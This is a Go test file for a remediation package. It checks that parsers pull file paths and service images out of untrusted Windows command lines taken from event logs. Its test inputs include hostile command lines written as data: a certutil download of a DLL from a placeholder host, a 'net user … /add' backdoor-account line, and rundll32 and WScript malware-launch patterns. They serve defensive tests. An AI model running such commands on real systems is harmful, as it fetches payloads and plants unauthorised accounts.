package remediate

import (
	"strings"
	"testing"
)

// FuzzCommandLine feeds untrusted command lines (from event logs) to the
// parsers the planner reads payload paths and service or task images
// with: they never panic, and every path they return is absolute and (but
// for the expansion of environment variables) taken from the input.
func FuzzCommandLine(f *testing.F) {
	for _, s := range []string{
		`"C:\Windows\System32\WScript.exe" "C:\Users\a\Downloads\Invoice_1.js" `,
		`"C:\Windows\System32\rundll32.exe" C:\ProgramData\x.dll,DllRegisterServer`,
		`%SystemRoot%\PSEXESVC.exe`, `\SystemRoot\System32\drivers\x.sys`, `system32\svchost.exe -k netsvcs`,
		`%SYstemRoot%`, `%windir%\`, `\SystemRoot\`, `"unterminated C:\x`, `C:\a b.exe -x`, "", `"`, `""`, `C:\`, "\x00C:\\x",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		for _, p := range commandPaths(cmd) {
			if !isAbsWindows(p) || !strings.Contains(cmd, p) {
				t.Fatalf("commandPaths(%q) returned %q", cmd, p)
			}
		}
		img := imageOf(cmd)
		if img != "" && !strings.Contains(strings.ToLower(cmd), strings.ToLower(baseName(img))) {
			t.Fatalf("imageOf(%q) = %q, not from the input", cmd, img)
		}
	})
}

// TestCommandPaths pins the paths read from typical command lines.
func TestCommandPaths(t *testing.T) {
	for cmd, want := range map[string][]string{
		`"C:\Windows\System32\WScript.exe" "C:\Users\a\Downloads\Invoice_1.js" `:    {`C:\Windows\System32\WScript.exe`, `C:\Users\a\Downloads\Invoice_1.js`},
		`"C:\Windows\System32\rundll32.exe" C:\ProgramData\x.dll,DllRegisterServer`: {`C:\Windows\System32\rundll32.exe`, `C:\ProgramData\x.dll`},
		`cmd.exe /c certutil -f http://x/y.dll C:\ProgramData\y.dll`:                {`C:\ProgramData\y.dll`},
		`net user helpdesk5 P@ss /add`:                                              nil,
	} {
		if got := commandPaths(cmd); strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("commandPaths(%q) = %q, want %q", cmd, got, want)
		}
	}
	for in, want := range map[string]string{
		`%SystemRoot%\PSEXESVC.exe`: `C:\Windows\PSEXESVC.exe`, `"C:\Program Files (x86)\A\a.exe" /svc`: `C:\Program Files (x86)\A\a.exe`,
		`C:\ProgramData\x.exe -silent`: `C:\ProgramData\x.exe`, `%SystemRoot%`: "", `%windir%\ -x`: "", `\SystemRoot\`: "", `\SystemRoot\System32\x.sys`: `C:\Windows\System32\x.sys`,
	} {
		if got := imageOf(in); got != want {
			t.Errorf("imageOf(%q) = %q, want %q", in, got, want)
		}
	}
}
